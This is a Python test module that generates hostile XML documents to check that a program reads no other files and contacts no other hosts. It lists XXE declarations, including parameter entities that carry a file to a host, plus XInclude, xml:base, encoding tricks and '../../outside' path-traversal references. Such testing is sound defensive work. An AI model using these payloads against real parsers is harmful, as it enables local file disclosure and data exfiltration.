"""Documents that would have the program read other files, or ask other hosts."""

from attack import Attack
from document import BASE, CONTENT, DECLARATION, PACKAGE, in_tag, in_text, swapped

XSI = "http://www.w3.org/2001/XMLSchema-instance"
INCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{}"/>'
# Type declarations; {file} and {url} lead to what must not be read, {name} to the file from beside the document.
DECLARATIONS = {
    "entity, file": '<!DOCTYPE submission [<!ENTITY e SYSTEM "{file}">]>',
    "entity, path": '<!DOCTYPE submission [<!ENTITY e SYSTEM "{path}">]>',
    "entity, relative": '<!DOCTYPE submission [<!ENTITY e SYSTEM "{name}">]>',
    "entity, host": '<!DOCTYPE submission [<!ENTITY e SYSTEM "{url}">]>',
    "entity, other protocol": '<!DOCTYPE submission [<!ENTITY e SYSTEM "ftp://{host}/e">]>',
    "entity, public, file": '<!DOCTYPE submission [<!ENTITY e PUBLIC "-//E//E//EN" "{file}">]>',
    "entity, public, host": '<!DOCTYPE submission [<!ENTITY e PUBLIC "-//E//E//EN" "{url}">]>',
    "entity, unparsed": '<!DOCTYPE submission [<!NOTATION n SYSTEM "{url}"><!ENTITY e SYSTEM "{file}" NDATA n>]>',
    "parameter entity, file": '<!DOCTYPE submission [<!ENTITY % p SYSTEM "{file}">%p;<!ENTITY e "">]>',
    "parameter entity, host": '<!DOCTYPE submission [<!ENTITY % p SYSTEM "{url}">%p;<!ENTITY e "">]>',
    "parameter entities that carry a file to a host":
        '<!DOCTYPE submission [<!ENTITY % f SYSTEM "{file}"><!ENTITY % p SYSTEM "{url}">%p;%all;%send;<!ENTITY e "">]>',
    "external declaration, file": '<!DOCTYPE submission SYSTEM "{file}" [<!ENTITY e "">]>',
    "external declaration, host": '<!DOCTYPE submission SYSTEM "{url}" [<!ENTITY e "">]>',
    "external declaration, public": '<!DOCTYPE submission PUBLIC "-//E//E//EN" "{url}" [<!ENTITY e "">]>',
    "external declaration, nothing else": '<!DOCTYPE submission SYSTEM "{url}">',
    "default of an attribute": '<!DOCTYPE submission [<!ENTITY e SYSTEM "{file}"><!ATTLIST act gazette CDATA "&e;">]>',
    "entity in an entity": '<!DOCTYPE submission [<!ENTITY f SYSTEM "{file}"><!ENTITY e "&f;&f;">]>',
}
# Markup that means something to other programs.
MARKUP = {
    "XInclude, file": in_text(INCLUDE.format("{file}")),
    "XInclude, host": in_text(INCLUDE.format("{url}")),
    "base of links": in_tag(' xml:base="{url}"'),
}
# What is no mistake (editors of XML write the place of the schema into the file), and must yet fetch nothing.
HARMLESS = {
    "schema location, host": in_tag(f' xmlns:xsi="{XSI}" xsi:schemaLocation="urn:emn:bulletin:submission:1 {{url}}"'),
    "schema location on the root":
        swapped(" country=", f' xmlns:xsi="{XSI}" xsi:schemaLocation="urn:emn:bulletin:submission:1 {{file}}" country='),
    "schema without namespace, host": in_tag(f' xmlns:xsi="{XSI}" xsi:noNamespaceSchemaLocation="{{url}}"'),
    "schema without namespace, file": in_tag(f' xmlns:xsi="{XSI}" xsi:noNamespaceSchemaLocation="{{file}}"'),
    "style sheet, host": DECLARATION + '\n<?xml-stylesheet type="text/xsl" href="{url}"?>\n' + CONTENT,
    "style sheet, file": DECLARATION + '\n<?xml-stylesheet type="text/xsl" href="{file}"?>\n' + CONTENT,
    "model, host": DECLARATION + '\n<?xml-model href="{url}"?>\n' + CONTENT,
    "catalogue": DECLARATION + '\n<?oasis-xml-catalog catalog="{url}"?>\n' + CONTENT,
    "link of a source": swapped("https://zenodo.org/records/8169110", "{url}"),
}
# References by which a submission of an earlier issue is looked up; outside the inputs lies one that could be found.
OUTSIDE = {
    "a country that leads out of the inputs": swapped("</development>", '<follows country="../../outside" period="2015-Q4" id="x"/></development>'),
    "a root that leads out of the inputs": swapped('country="NO"', 'country="../../outside"'),
}
ENCODINGS = ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7", "cp037"]


def attacks():
    for name, declaration in DECLARATIONS.items():
        text = DECLARATION + "\n" + declaration + in_text("&e;").partition("\n")[2]
        yield fetching(name, text)
    for encoding in ENCODINGS:
        text = DECLARATION.replace("UTF-8", encoding[:6] if "32" not in encoding else "UTF-32")
        text += DECLARATIONS["entity, file"] + in_text("&e;").partition("\n")[2]
        yield fetching(f"entity in {encoding}", text, encoding)
    for name, text in MARKUP.items():
        yield fetching(name, text)
    for name, text in HARMLESS.items():
        yield fetching(name, text, statuses={0})
    for name, text in OUTSIDE.items():
        yield Attack(name, beside_outside(text), traced=True)
    issue = (PACKAGE / "inputs" / "2016-Q1" / "issue.xml").read_text(encoding="utf-8")
    yield fetching("entity in the issue's file", external(issue, "<about>", "<about>&e;"), target="2016-Q1/issue.xml")
    for name in ["network", "style", "glossary", "lexicon"]:
        data = (PACKAGE / "Sources" / "Reference" / "Data" / f"{name}.xml").read_text(encoding="utf-8")
        root = data.index(">", data.index("version=", data.index("?>"))) + 1
        yield fetching(f"entity in {name}.xml", external(data, data[root - 20:root], data[root - 20:root] + "&e;"),
                       target=f"reference/{name}.xml", compiled={2})


def beside_outside(text):
    def make(path, trap):
        path.parents[2].joinpath("outside.xml").write_text(BASE, encoding="utf-8")
        path.write_text(text, encoding="utf-8")

    return make


def external(text, old, new):
    """A file of another vocabulary with an external entity in it."""
    assert old in text, old
    head, _, rest = text.replace(old, new, 1).partition("?>")
    return head + "?>" + DECLARATIONS["entity, file"] + rest


def fetching(name, text, encoding="utf-8", **expected):
    def make(path, trap):
        filled = text
        for key, value in trap.names.items():
            filled = filled.replace("{" + key + "}", value)
        path.write_bytes(filled.encode(encoding))

    return Attack(name, make, traced=True, **expected)
